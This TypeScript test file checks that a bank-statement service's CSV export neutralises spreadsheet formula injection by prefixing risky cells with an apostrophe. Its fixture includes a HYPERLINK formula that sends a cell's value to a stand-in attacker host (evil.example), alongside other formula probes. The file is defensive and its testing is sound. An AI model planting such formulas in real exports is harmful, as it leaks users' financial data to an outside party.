// lanes: sqlite postgres
// Formulas in the CSV export (decisions §20): a text cell that begins with =, +, -, @, TAB or CR
// gets a leading ', so a spreadsheet shows it instead of running it; the amount stays a number.
// Through HTTP, on whichever store the lane runs (SQLite, or PostgreSQL with SVC_TEST_STORE).
import { describe, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import { makeTestApp } from "../helpers/app";
import { statementOperation } from "../helpers/rows";
import { PATH } from "./export-support";

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Подробнее")';

describe("CSV export and spreadsheet formulas", () => {
  test("purpose, names and numbers that start a formula come out as text; amounts stay numbers", async () => {
    const t = makeTestApp();
    const w = t.fixtures.world();
    const party = (name: string, inn: string, account: string) => ({
      name,
      inn,
      kpp: "",
      account,
      bank_name: "ПАО «Банк»",
      bank_bik: "044525225",
      bank_corr_account: "30101810400000000225",
    });
    const ops = [
      statementOperation({ operation_id: "f1", purpose: FORMULA }),
      statementOperation({ operation_id: "f2", purpose: "+79991234567 перезвонить", doc_number: "-17" }),
      statementOperation({ operation_id: "f3", purpose: "@SUM(A1:A9)", payer: party("=1+1", "@1", "-2") }),
      statementOperation({ operation_id: "f4", purpose: "\tTAB", payee: party("\rCR", "+3", "=4") }),
      // An amount is a number, not a text cell: a minus sign stays (no operation has one today).
      statementOperation({ operation_id: "f5", amount: -150_000, purpose: "Обычное назначение - с дефисом" }),
    ];
    const id = "00000000-0000-4000-8000-00000000f001";
    t.services.statementRepo.createReady(
      {
        id,
        bank_account_id: w.account.bank_account_id,
        api_token_id: w.tokenId,
        source: "integration",
        external_id: "csv-formulas",
        date_from: "2026-10-05",
        date_to: "2026-10-05",
        created_at: t.clock.now().toISOString(),
      },
      {
        opening_balance: 0,
        closing_balance: 300_000,
        total_credit: 300_000,
        total_debit: 0,
        fetched_at: t.clock.now().toISOString(),
      },
      ops,
      null,
    );

    const res = await t.request("GET", `${PATH}/${id}/export?format=csv&bom=1`, { token: w.token });
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, "");
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.purpose)).toEqual([
      `'${FORMULA}`,
      "'+79991234567 перезвонить",
      "'@SUM(A1:A9)",
      "'\tTAB",
      "Обычное назначение - с дефисом",
    ]);
    expect(rows[1]?.doc_number).toBe("'-17");
    expect([rows[2]?.payer_name, rows[2]?.payer_inn, rows[2]?.payer_account]).toEqual([
      "'=1+1",
      "'@1",
      "'-2",
    ]);
    expect([rows[3]?.payee_name, rows[3]?.payee_inn, rows[3]?.payee_account]).toEqual([
      "'\rCR",
      "'+3",
      "'=4",
    ]);
    expect(rows.map((r) => r.amount)).toEqual(["1500.00", "1500.00", "1500.00", "1500.00", "-1500.00"]);
    // Cells that start no formula are as they were.
    expect(rows[0]?.payer_name).toBe("ООО Лютик");
    expect(rows[0]?.doc_date).toBe("2026-10-05");
  });
});
